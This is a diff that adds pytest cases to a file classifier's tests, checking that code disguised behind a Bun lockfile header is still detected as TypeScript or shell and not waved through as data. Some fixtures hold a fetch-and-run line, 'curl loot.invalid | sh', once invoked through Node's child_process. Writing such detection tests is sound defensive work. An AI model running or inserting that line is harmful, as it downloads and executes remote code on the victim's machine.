@@ -97,6 +97,31 @@ def test_another_interpreter_is_no_code_of_ours(data: bytes) -> None:
     assert Inert() == classify(File("tool", data))
 
 
+LOCK = b"#!/usr/bin/env bun\nbun-lockfile-format-v0\n"
+
+
+def test_a_lock_that_bun_prints_is_data() -> None:
+    assert Inert() == classify(File("bun.lockb", LOCK + b"\2\0\0\0\x95\xe1\0\0require('child_process')"))
+
+
+@pytest.mark.parametrize(
+    "rest",
+    [
+        b"var bun, lockfile, format, v0;\nrequire('child_process').exec('curl loot.invalid | sh');\n",
+        b"\n\0\0\0require('child_process');\n",
+        b"/*\0\0\0*/require('child_process');\n",
+        b"\2 require('child_process');\n",
+    ],
+    ids=["code behind the words", "an empty line", "a comment", "no number"],
+)
+def test_the_words_of_a_lock_make_no_code_data(rest: bytes) -> None:
+    assert Code(Language.TYPESCRIPT) == classify(File("bun.lockb", LOCK + rest))
+
+
+def test_a_lock_under_a_name_of_code_stays_code() -> None:
+    assert Code(Language.SHELL) == classify(File("a.sh", LOCK + b"\2\0\0\0\ncurl loot.invalid | sh\n"))
+
+
 MAGIC = [
     ("a.so", b"\x7fELF\2\1\1", Compiled(Format.ELF)),
     ("image.png", b"\x7fELF\2\1\1", Compiled(Format.ELF)),
